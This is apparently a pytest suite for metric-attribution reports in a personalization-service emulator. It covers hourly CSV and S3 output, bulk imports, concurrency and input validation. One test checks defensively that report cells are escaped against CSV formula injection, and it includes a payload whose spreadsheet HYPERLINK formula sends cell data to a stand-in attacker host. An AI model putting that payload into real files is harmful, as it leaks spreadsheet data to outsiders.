"""Metric attributions over boto3: recommendations -> events carrying their recommendationId -> per-source,
per-hour metric files (local and S3) and ListMetricAttributionMetrics; imported interactions as bulk
reports; and the bad input (a metric on a missing column, unknown ARNs, a second attribution for a group)."""

from __future__ import annotations

import csv
import io
import json
from collections import defaultdict
from pathlib import Path

import boto3
import pytest
from botocore.exceptions import ClientError

from helpers import (
    RECIPE,
    ROLE,
    avro_schema,
    concurrently,
    deploy,
    error_code,
    error_message,
    import_dataset,
    s3_env,
    wait_until,
)
from openpersonalize.control.attribution_reports import count_events
from openpersonalize.control.base import Control, Settings
from openpersonalize.store.events import EventStore
from openpersonalize.store.metadata import MetadataStore, Resource
from server_harness import Server, unique, wait_status

HOUR = 1_700_000_000 // 3600 * 3600  # events are stamped in two hours from here
INTERACTIONS = avro_schema(
    "Interactions",
    [
        {"name": "USER_ID", "type": "string"},
        {"name": "ITEM_ID", "type": "string"},
        {"name": "TIMESTAMP", "type": "long"},
        {"name": "EVENT_TYPE", "type": "string"},
        {"name": "EVENT_VALUE", "type": ["null", "float"]},
        {"name": "EVENT_ATTRIBUTION_SOURCE", "type": ["null", "string"]},
        {"name": "DISCOUNT", "type": ["null", "float"]},
    ],
)
ITEMS = avro_schema("Items", [{"name": "ITEM_ID", "type": "string"}, {"name": "PRICE", "type": "float"}])
METRICS = [
    {"eventType": "click", "metricName": "CLICKS", "expression": "SAMPLECOUNT()"},
    {"eventType": "watch", "metricName": "WATCHED", "expression": "SUM(Interactions.EVENT_VALUE)"},
    {"eventType": "watch", "metricName": "REVENUE", "expression": "SUM(Items.PRICE)"},
    {"eventType": "watch", "metricName": "DISCOUNTS", "expression": "SUM(Interactions.DISCOUNT)"},
]


@pytest.fixture(scope="module")
def world(tmp_path_factory, s3_server):
    """A server publishing every 0.2 s, a group with interactions and priced items, two campaigns and a tracker."""
    root = tmp_path_factory.mktemp("attribution")
    work = root / "work"
    work.mkdir()
    env = s3_env(s3_server)
    srv = Server(root / "data", None, [work], env, args=["--metrics-interval", "0.2"]).start()
    try:
        personalize = srv.client()
        group = personalize.create_dataset_group(name=unique("ma"))["datasetGroupArn"]
        rows = ["USER_ID,ITEM_ID,TIMESTAMP,EVENT_TYPE,EVENT_VALUE,EVENT_ATTRIBUTION_SOURCE,DISCOUNT"]
        rows += [f"u{u},i{(u * 7 + k) % 12},{HOUR - 86400 + k},watch,1,," for u in range(50) for k in range(24)]
        (work / "interactions.csv").write_text("\n".join(rows) + "\n")
        (work / "items.csv").write_text("ITEM_ID,PRICE\n" + "".join(f"i{i},{i + 0.5}\n" for i in range(12)))
        interactions = import_dataset(personalize, group, "INTERACTIONS", INTERACTIONS, str(work / "interactions.csv"))
        import_dataset(personalize, group, "ITEMS", ITEMS, str(work / "items.csv"))
        solution = personalize.create_solution(
            name=unique("pop"), datasetGroupArn=group, recipeArn=RECIPE + "aws-popularity-count"
        )["solutionArn"]
        version = personalize.create_solution_version(solutionArn=solution)["solutionVersionArn"]
        done = wait_status(personalize.describe_solution_version, "solutionVersion", solutionVersionArn=version)
        assert done["status"] == "ACTIVE", done.get("failureReason")
        campaigns = deploy(personalize, {"a": version, "b": version})
        tracking = personalize.create_event_tracker(name=unique("t"), datasetGroupArn=group)["trackingId"]
        yield {
            "server": srv,
            "work": work,
            "personalize": personalize,
            "group": group,
            "interactions": interactions,
            "campaigns": campaigns,
            "tracking": tracking,
        }
    finally:
        srv.stop()


def _attribution(personalize, group: str, path: str, metrics=METRICS) -> str:
    arn = personalize.create_metric_attribution(
        name=unique("ma"),
        datasetGroupArn=group,
        metrics=metrics,
        metricsOutputConfig={"roleArn": ROLE, "s3DataDestination": {"path": path}},
    )["metricAttributionArn"]
    done = wait_status(personalize.describe_metric_attribution, "metricAttribution", metricAttributionArn=arn)
    assert done["status"] == "ACTIVE", done.get("failureReason")
    return arn


def _totals(files: dict[str, bytes]) -> dict[tuple[str, str, int], float]:
    """(metric, source, hour) -> value summed over report files, checking each row's shape."""
    totals: dict[tuple[str, str, int], float] = defaultdict(float)
    for body in files.values():
        reader = csv.DictReader(io.StringIO(body.decode()))
        assert reader.fieldnames == [
            "METRIC_NAME",
            "EVENT_TYPE",
            "VALUE",
            "MATH_FUNCTION",
            "EVENT_ATTRIBUTION_SOURCE",
            "TIMESTAMP",
        ]
        for row in reader:
            function = {"CLICKS": "samplecount"}.get(row["METRIC_NAME"], "sum")
            assert row["MATH_FUNCTION"] == function, row
            assert row["EVENT_TYPE"] == {"CLICKS": "click"}.get(row["METRIC_NAME"], "watch"), row
            totals[(row["METRIC_NAME"], row["EVENT_ATTRIBUTION_SOURCE"], int(row["TIMESTAMP"]))] += float(row["VALUE"])
    return dict(totals)


def _local_reports(directory: Path, kind: str) -> dict[str, bytes]:
    found = sorted(directory.glob(f"AggregatedAttributionMetrics-{kind}-*.csv")) if directory.exists() else []
    return {p.name: p.read_bytes() for p in found}


def _recommendation_id(world, campaign: str) -> str:
    runtime = world["server"].client("personalize-runtime")
    answer = runtime.get_recommendations(campaignArn=world["campaigns"][campaign], userId="u1", numResults=3)
    assert answer["itemList"]
    return answer["recommendationId"]


def test_events_are_attributed_per_source_and_hour(world):
    personalize, srv = world["personalize"], world["server"]
    out = world["work"] / "metrics"
    arn = _attribution(personalize, world["group"], str(out))
    rid_a, rid_b = _recommendation_id(world, "a"), _recommendation_id(world, "b")
    assert rid_a != _recommendation_id(world, "a")  # one per answer
    a, b = world["campaigns"]["a"], world["campaigns"]["b"]
    price = {f"i{i}": i + 0.5 for i in range(12)}
    events = srv.client("personalize-events")
    sent = [  # (hour offset, event type, item, value, discount, recommendationId, eventAttributionSource)
        (0, "click", "i1", None, None, rid_a, None),
        (0, "click", "i2", None, None, rid_a, None),
        (0, "watch", "i3", 2.5, 0.5, rid_a, None),
        (0, "watch", "i4", 1.5, None, rid_b, None),
        (0, "click", "i5", None, None, rid_b, None),
        (0, "click", "i6", None, None, None, "newsletter"),
        (0, "click", "i7", None, None, rid_a, "email"),  # both given: the eventAttributionSource wins
        (0, "click", "i8", None, None, None, None),
        (0, "click", "i9", None, None, "RID-not-ours", None),
        (0, "rate", "i1", 5.0, None, rid_a, None),  # no metric measures this event type
        (1, "watch", "i10", 4.0, 1.25, rid_a, None),
        (1, "click", "i11", None, None, rid_b, None),
    ]
    for n, (hour, kind, item, value, discount, rid, source) in enumerate(sent):
        event = {"eventType": kind, "itemId": item, "sentAt": HOUR + 3600 * hour + n}
        if value is not None:
            event["eventValue"] = value
        if discount is not None:
            event["properties"] = json.dumps({"discount": discount})
        if rid is not None:
            event["recommendationId"] = rid
        if source is not None:
            event["metricAttribution"] = {"eventAttributionSource": source}
        events.put_events(trackingId=world["tracking"], userId="u1", sessionId="s1", eventList=[event])
    h0, h1 = HOUR, HOUR + 3600
    undefined = "SOURCE_NAME_UNDEFINED"
    expected = {
        ("CLICKS", a, h0): 2.0,
        ("CLICKS", b, h0): 1.0,
        ("CLICKS", "newsletter", h0): 1.0,
        ("CLICKS", "email", h0): 1.0,
        ("CLICKS", undefined, h0): 2.0,
        ("WATCHED", a, h0): 2.5,
        ("WATCHED", b, h0): 1.5,
        ("REVENUE", a, h0): price["i3"],
        ("REVENUE", b, h0): price["i4"],
        ("WATCHED", a, h1): 4.0,
        ("REVENUE", a, h1): price["i10"],
        ("CLICKS", b, h1): 1.0,
        ("DISCOUNTS", a, h0): 0.5,
        ("DISCOUNTS", a, h1): 1.25,
    }
    wait_until(lambda: _totals(_local_reports(out, "PUT_EVENTS")) == expected, what="the hourly reports")
    reports = _local_reports(out, "PUT_EVENTS")
    name = arn.rsplit("/", 1)[1]
    assert sorted(reports) == [
        f"AggregatedAttributionMetrics-PUT_EVENTS-20231114T220000Z-{name}.csv",
        f"AggregatedAttributionMetrics-PUT_EVENTS-20231114T230000Z-{name}.csv",
    ]
    listed = personalize.list_metric_attribution_metrics(metricAttributionArn=arn)["metrics"]
    assert sorted(listed, key=lambda m: m["metricName"]) == sorted(METRICS, key=lambda m: m["metricName"])
    described = personalize.describe_metric_attribution(metricAttributionArn=arn)["metricAttribution"]
    assert described["datasetGroupArn"] == world["group"] and "failureReason" not in described
    summaries = personalize.list_metric_attributions(datasetGroupArn=world["group"])["metricAttributions"]
    assert [s["metricAttributionArn"] for s in summaries] == [arn]

    # A later event of the first hour rewrites that hour's file with its complete totals.
    late = {"eventType": "click", "itemId": "i1", "sentAt": HOUR + 30, "recommendationId": rid_a}
    events.put_events(trackingId=world["tracking"], userId="u2", sessionId="s2", eventList=[late])
    expected[("CLICKS", a, h0)] = 3.0
    wait_until(lambda: _totals(_local_reports(out, "PUT_EVENTS")) == expected, what="the rewritten hour")
    assert len(_local_reports(out, "PUT_EVENTS")) == 2

    # Reports follow the output path to S3; a removed metric is no longer counted.
    s3 = boto3.client(
        "s3",
        endpoint_url=srv.env["OPENPERSONALIZE_S3_ENDPOINT_URL"],
        region_name="us-east-1",
        aws_access_key_id="testing",
        aws_secret_access_key="testing",
    )
    s3.create_bucket(Bucket="attribution")
    personalize.update_metric_attribution(
        metricAttributionArn=arn,
        removeMetrics=["REVENUE"],
        metricsOutputConfig={"roleArn": ROLE, "s3DataDestination": {"path": "s3://attribution/reports/"}},
    )
    later = {"eventType": "watch", "itemId": "i2", "eventValue": 3.0, "sentAt": HOUR + 7300, "recommendationId": rid_b}
    events.put_events(trackingId=world["tracking"], userId="u2", sessionId="s2", eventList=[later])

    def s3_reports() -> dict[str, bytes]:
        listing = s3.list_objects_v2(Bucket="attribution", Prefix="reports/").get("Contents", [])
        return {o["Key"]: s3.get_object(Bucket="attribution", Key=o["Key"])["Body"].read() for o in listing}

    wait_until(lambda: _totals(s3_reports()) == {("WATCHED", b, HOUR + 7200): 3.0}, what="the S3 report")
    assert list(s3_reports()) == [f"reports/AggregatedAttributionMetrics-PUT_EVENTS-20231115T000000Z-{name}.csv"]
    names = [m["metricName"] for m in personalize.list_metric_attribution_metrics(metricAttributionArn=arn)["metrics"]]
    assert sorted(names) == ["CLICKS", "DISCOUNTS", "WATCHED"]

    personalize.delete_metric_attribution(metricAttributionArn=arn)
    with pytest.raises(ClientError) as exc:
        personalize.describe_metric_attribution(metricAttributionArn=arn)
    assert error_code(exc) == "ResourceNotFoundException"


def test_imported_interactions_are_reported_as_bulk_data(world):
    personalize, work = world["personalize"], world["work"]
    out = work / "bulk"
    arn = _attribution(personalize, world["group"], str(out))
    rows = [
        "USER_ID,ITEM_ID,TIMESTAMP,EVENT_TYPE,EVENT_VALUE,EVENT_ATTRIBUTION_SOURCE,DISCOUNT",
        f"u1,i1,{HOUR + 5},click,,partner,",
        f"u1,i2,{HOUR + 6},click,,partner,",
        f"u2,i3,{HOUR + 7},watch,2,partner,0.25",
        f"u2,i4,{HOUR + 8},watch,3,,",
        f"u3,i5,{HOUR + 9},click,,,",
    ]
    (world["work"] / "more.csv").write_text("\n".join(rows) + "\n")
    job = personalize.create_dataset_import_job(
        jobName=unique("bulk"),
        datasetArn=world["interactions"],
        dataSource={"dataLocation": str(world["work"] / "more.csv")},
        importMode="INCREMENTAL",
        publishAttributionMetricsToS3=True,
    )["datasetImportJobArn"]
    done = wait_status(personalize.describe_dataset_import_job, "datasetImportJob", datasetImportJobArn=job)
    assert done["status"] == "ACTIVE" and done["publishAttributionMetricsToS3"] is True
    reports = _local_reports(out, "INCREMENTAL")
    assert len(reports) == 1
    undefined = "SOURCE_NAME_UNDEFINED"
    assert _totals(reports) == {
        ("CLICKS", "partner", HOUR): 2.0,
        ("CLICKS", undefined, HOUR): 1.0,
        ("WATCHED", "partner", HOUR): 2.0,
        ("WATCHED", undefined, HOUR): 3.0,
        ("REVENUE", "partner", HOUR): 3.5,
        ("REVENUE", undefined, HOUR): 4.5,
        ("DISCOUNTS", "partner", HOUR): 0.25,
    }
    # an import without publishAttributionMetricsToS3 writes no report
    job = personalize.create_dataset_import_job(
        jobName=unique("quiet"),
        datasetArn=world["interactions"],
        dataSource={"dataLocation": str(world["work"] / "more.csv")},
        importMode="INCREMENTAL",
    )["datasetImportJobArn"]
    wait_status(personalize.describe_dataset_import_job, "datasetImportJob", datasetImportJobArn=job)
    assert len(_local_reports(out, "INCREMENTAL")) == 1
    personalize.delete_metric_attribution(metricAttributionArn=arn)


def test_attributions_sharing_an_output_path_keep_their_own_reports(world):
    """Two dataset groups' attributions write to one directory: each hour file used to be named by the hour
    alone, so the last publication overwrote the other group's totals of that hour."""
    personalize, out = world["personalize"], world["work"] / "shared"
    other = personalize.create_dataset_group(name=unique("ma2"))["datasetGroupArn"]
    schema = personalize.create_schema(name=unique("i"), schema=json.dumps(INTERACTIONS))["schemaArn"]
    personalize.create_dataset(name=unique("i"), datasetType="INTERACTIONS", datasetGroupArn=other, schemaArn=schema)
    trackers = {
        world["group"]: world["tracking"],
        other: personalize.create_event_tracker(name=unique("t"), datasetGroupArn=other)["trackingId"],
    }
    arns = {group: _attribution(personalize, group, str(out), metrics=METRICS[:1]) for group in trackers}
    try:
        events = world["server"].client("personalize-events")
        for n, tracking in enumerate(trackers.values(), start=1):
            clicks = [{"eventType": "click", "itemId": "i1", "sentAt": HOUR + 5}] * (3 * n)
            events.put_events(trackingId=tracking, userId="u1", sessionId="s1", eventList=clicks)
        for n, arn in enumerate(arns.values(), start=1):
            name = arn.rsplit("/", 1)[1]
            report = out / f"AggregatedAttributionMetrics-PUT_EVENTS-20231114T220000Z-{name}.csv"
            wait_until(report.exists, what=f"the report of {name}")
            wait_until(
                lambda r=report, n=n: (
                    _totals({r.name: r.read_bytes()}) == {("CLICKS", "SOURCE_NAME_UNDEFINED", HOUR): 3.0 * n}
                ),
                what=f"{name}'s own totals",
            )
        assert len(_local_reports(out, "PUT_EVENTS")) == 2
    finally:
        for arn in arns.values():
            personalize.delete_metric_attribution(metricAttributionArn=arn)


def test_report_cells_are_never_formulas(world):
    """eventAttributionSource and eventType are the sender's text: a report cell starting with = + - @ used to
    run as a formula when the file was opened in a spreadsheet (CSV injection); it now starts with a '."""
    personalize, out = world["personalize"], world["work"] / "formulas"
    group = personalize.create_dataset_group(name=unique("ma3"))["datasetGroupArn"]
    schema = personalize.create_schema(name=unique("i"), schema=json.dumps(INTERACTIONS))["schemaArn"]
    personalize.create_dataset(name=unique("i"), datasetType="INTERACTIONS", datasetGroupArn=group, schemaArn=schema)
    tracking = personalize.create_event_tracker(name=unique("t"), datasetGroupArn=group)["trackingId"]
    kind = "-1+cmd"
    metrics = [{"eventType": kind, "metricName": "CLICKS", "expression": "SAMPLECOUNT()"}]
    arn = _attribution(personalize, group, str(out), metrics=metrics)
    sources = ['=HYPERLINK("http://attacker.example/?"&A1,"x")', "+1+1", "-2+3", "@SUM(1+1)", "plain"]
    try:
        events = world["server"].client("personalize-events")
        sent = [
            {"eventType": kind, "itemId": "i1", "sentAt": HOUR + n, "metricAttribution": {"eventAttributionSource": s}}
            for n, s in enumerate(sources)
        ]
        events.put_events(trackingId=tracking, userId="u1", sessionId="s1", eventList=sent)
        report = out / f"AggregatedAttributionMetrics-PUT_EVENTS-20231114T220000Z-{arn.rsplit('/', 1)[1]}.csv"
        wait_until(lambda: report.exists() and len(report.read_text().splitlines()) == 1 + len(sources), what="rows")
        rows = list(csv.DictReader(io.StringIO(report.read_text())))
        assert sorted(r["EVENT_ATTRIBUTION_SOURCE"] for r in rows) == sorted(
            s if s == "plain" else "'" + s for s in sources
        )
        assert {r["EVENT_TYPE"] for r in rows} == {"'" + kind}
        assert all(r["VALUE"] == "1.0" for r in rows)
    finally:
        personalize.delete_metric_attribution(metricAttributionArn=arn)


def test_an_items_dataset_recreated_without_a_summed_column_stalls_nothing(world):
    """SUM(Items.PRICE) after the Items dataset is re-created without PRICE: every publication used to fail
    reading the missing column (failureReason 'Internal error: ArrowInvalid ...'), so no metric of the
    attribution counted anything again; now that metric sums nothing and the others count on."""
    personalize, work = world["personalize"], world["work"]
    group = personalize.create_dataset_group(name=unique("ma3"))["datasetGroupArn"]
    schema = personalize.create_schema(name=unique("i"), schema=json.dumps(INTERACTIONS))["schemaArn"]
    personalize.create_dataset(name=unique("i"), datasetType="INTERACTIONS", datasetGroupArn=group, schemaArn=schema)
    tracking = personalize.create_event_tracker(name=unique("t"), datasetGroupArn=group)["trackingId"]
    (work / "priced.csv").write_text("ITEM_ID,PRICE\ni1,2.5\n")
    items = import_dataset(personalize, group, "ITEMS", ITEMS, str(work / "priced.csv"))
    out = work / "recreated"
    metrics = [METRICS[0], {"eventType": "click", "metricName": "SPENT", "expression": "SUM(Items.PRICE)"}]
    arn = _attribution(personalize, group, str(out), metrics=metrics)
    try:
        personalize.delete_dataset(datasetArn=items)
        wait_until(lambda: len(personalize.list_datasets(datasetGroupArn=group)["datasets"]) == 1, what="deletion")
        (work / "coloured.csv").write_text("ITEM_ID,COLOUR\ni1,red\n")
        coloured = avro_schema(
            "Items", [{"name": "ITEM_ID", "type": "string"}, {"name": "COLOUR", "type": "string", "categorical": True}]
        )
        import_dataset(personalize, group, "ITEMS", coloured, str(work / "coloured.csv"))
        events = world["server"].client("personalize-events")
        click = {"eventType": "click", "itemId": "i1", "sentAt": HOUR + 1}
        events.put_events(trackingId=tracking, userId="u1", sessionId="s1", eventList=[click, click])
        wait_until(lambda: _local_reports(out, "PUT_EVENTS"), what="the report")
        assert _totals(_local_reports(out, "PUT_EVENTS")) == {("CLICKS", "SOURCE_NAME_UNDEFINED", HOUR): 2.0}
        described = personalize.describe_metric_attribution(metricAttributionArn=arn)["metricAttribution"]
        assert "failureReason" not in described
    finally:
        personalize.delete_metric_attribution(metricAttributionArn=arn)


def test_an_output_directory_swapped_for_a_link_is_refused_and_retried(world, tmp_path):
    """The output directory checked at CreateMetricAttribution becomes a link out of the allowed roots: nothing
    is written through it, failureReason names metricsOutputConfig's path (not a batch job's jobOutput), and
    the hour is written once the directory is back."""
    personalize, out = world["personalize"], world["work"] / "swapped"
    out.mkdir()
    arn = _attribution(personalize, world["group"], str(out))
    try:
        out.rmdir()
        out.symlink_to(tmp_path, target_is_directory=True)
        events = world["server"].client("personalize-events")
        event = {"eventType": "click", "itemId": "i1", "sentAt": HOUR + 60}
        events.put_events(trackingId=world["tracking"], userId="u1", sessionId="s1", eventList=[event])

        def reason() -> str:
            described = personalize.describe_metric_attribution(metricAttributionArn=arn)["metricAttribution"]
            return described.get("failureReason", "")

        wait_until(reason, what="the refused report")
        assert "metricsOutputConfig.s3DataDestination.path" in reason() and "jobOutput" not in reason()
        assert list(tmp_path.iterdir()) == []
        out.unlink()
        out.mkdir()
        wait_until(lambda: _local_reports(out, "PUT_EVENTS"), what="the report written on a later publication")
        assert _totals(_local_reports(out, "PUT_EVENTS")) == {("CLICKS", "SOURCE_NAME_UNDEFINED", HOUR): 1.0}
        wait_until(lambda: not reason(), what="the failureReason cleared")
    finally:
        personalize.delete_metric_attribution(metricAttributionArn=arn)


@pytest.mark.parametrize(
    ("metric", "named"),
    [
        ({"eventType": "watch", "metricName": "M", "expression": "SUM(Interactions.PRICE)"}, "PRICE"),
        ({"eventType": "watch", "metricName": "M", "expression": "SUM(Items.LENGTH)"}, "LENGTH"),
        ({"eventType": "watch", "metricName": "M", "expression": "SUM(Interactions.EVENT_TYPE)"}, "EVENT_TYPE"),
        ({"eventType": "watch", "metricName": "M", "expression": "SUM(Users.AGE)"}, "Users"),
        ({"eventType": "watch", "metricName": "M", "expression": "AVG(Interactions.EVENT_VALUE)"}, "AVG"),
        ({"eventType": " ", "metricName": "M", "expression": "SAMPLECOUNT()"}, "eventType"),
    ],
)
def test_bad_metrics_are_refused_naming_them(world, metric, named):
    with pytest.raises(ClientError) as exc:
        _attribution(world["personalize"], world["group"], str(world["work"] / "x"), metrics=[metric])
    assert error_code(exc) == "InvalidInputException"
    assert named in error_message(exc) and "metrics.1" in error_message(exc)


def test_bad_requests(world):
    personalize, group = world["personalize"], world["group"]
    work = world["work"]
    arn = _attribution(personalize, group, str(work / "bad"))
    with pytest.raises(ClientError) as exc:  # one per dataset group
        _attribution(personalize, group, str(work / "bad"))
    assert error_code(exc) == "ResourceAlreadyExistsException" and arn in error_message(exc)
    missing = arn.rsplit("/", 1)[0] + "/nope"
    for call in (
        lambda: personalize.describe_metric_attribution(metricAttributionArn=missing),
        lambda: personalize.delete_metric_attribution(metricAttributionArn=missing),
        lambda: personalize.list_metric_attribution_metrics(metricAttributionArn=missing),
        lambda: personalize.update_metric_attribution(metricAttributionArn=missing, removeMetrics=["CLICKS"]),
    ):
        with pytest.raises(ClientError) as exc:
            call()
        assert error_code(exc) == "ResourceNotFoundException" and missing in error_message(exc)
    with pytest.raises(ClientError) as exc:
        personalize.update_metric_attribution(metricAttributionArn=arn, addMetrics=[METRICS[0]])
    assert error_code(exc) == "ResourceAlreadyExistsException" and "CLICKS" in error_message(exc)
    with pytest.raises(ClientError) as exc:
        personalize.update_metric_attribution(metricAttributionArn=arn, removeMetrics=["NOPE"])
    assert error_code(exc) == "InvalidInputException" and "NOPE" in error_message(exc)
    with pytest.raises(ClientError) as exc:
        personalize.update_metric_attribution(
            metricAttributionArn=arn, metricsOutputConfig={"roleArn": ROLE, "s3DataDestination": {"path": "/etc"}}
        )
    assert error_code(exc) == "InvalidInputException" and "s3DataDestination.path" in error_message(exc)
    with pytest.raises(ClientError) as exc:
        personalize.list_metric_attributions(datasetGroupArn=group + "-nope")
    assert error_code(exc) == "ResourceNotFoundException"
    with pytest.raises(ClientError) as exc:  # the group cannot go while its attribution exists
        personalize.delete_dataset_group(datasetGroupArn=group)
    assert error_code(exc) == "ResourceInUseException"
    personalize.delete_metric_attribution(metricAttributionArn=arn)
    assert personalize.list_metric_attributions(datasetGroupArn=group)["metricAttributions"] == []


def test_concurrent_publications_count_each_event_once(tmp_path):
    """Publications racing on one attribution (two nodes, or a job taken over) count every event exactly once."""
    store = MetadataStore(f"sqlite:///{tmp_path / 'metadata.db'}")
    control = Control(Settings(data_dir=tmp_path), store, EventStore(store))
    group, arn = "arn:aws:personalize:r:1:dataset-group/g", "arn:aws:personalize:r:1:metric-attribution/m"
    doc = {
        "datasetGroupArn": group,
        "metricsOutputConfig": {"roleArn": ROLE},
        "metrics": [{**METRICS[0], "column": None}],
    }
    store.insert(Resource(arn, "metric-attribution", "m", None, "ACTIVE", doc))
    control.attribution.start(arn, 0)
    rows = [
        {"dataset_group_arn": group, "tracking_id": "t", "session_id": "s", "event_type": "click", "item_id": "i",
         "timestamp": HOUR + n % 7200, "attribution_source": f"src{n % 3}"}
        for n in range(25_000)
    ]  # fmt: skip
    control.events.append_events(rows)
    concurrently(*[lambda: count_events(control, store.get(arn))] * 4)
    totals = {(t.source, t.hour): t.value for t in control.attribution.totals(arn)}
    expected = defaultdict(float)
    for row in rows:
        expected[(row["attribution_source"], int(row["timestamp"]) // 3600 * 3600)] += 1
    assert totals == expected and sum(totals.values()) == 25_000
    assert control.attribution.mark(arn) == control.events.max_event_id(group)


def test_a_metric_removed_while_a_publication_counts_does_not_come_back(tmp_path):
    """UpdateMetricAttribution removes a metric (and forgets its totals) while a publication that read the old
    metrics is counting: that publication's batch used to add the removed metric's totals back, and its hour
    files reported a metric the attribution no longer has."""
    store = MetadataStore(f"sqlite:///{tmp_path / 'metadata.db'}")
    control = Control(Settings(data_dir=tmp_path), store, EventStore(store))
    group, arn = "arn:aws:personalize:r:1:dataset-group/g", "arn:aws:personalize:r:1:metric-attribution/m"
    both = [{**METRICS[0], "column": None}, {**METRICS[0], "metricName": "GONE", "column": None}]
    doc = {"datasetGroupArn": group, "metricsOutputConfig": {"roleArn": ROLE}, "metrics": both}
    store.insert(Resource(arn, "metric-attribution", "m", None, "ACTIVE", doc))
    stale = store.get(arn)
    control.attribution.start(arn, 0)
    row = {"dataset_group_arn": group, "tracking_id": "t", "session_id": "s", "event_type": "click", "item_id": "i"}
    control.events.append_events([{**row, "timestamp": HOUR + n} for n in range(5)])
    # what UpdateMetricAttribution(removeMetrics=["GONE"]) does, after the publication read ``stale``
    store.update(arn, metrics=both[:1])
    control.attribution.forget_metrics(arn, ["GONE"])
    count_events(control, stale)
    assert {(t.metric, t.value) for t in control.attribution.totals(arn)} == {("CLICKS", 5.0)}
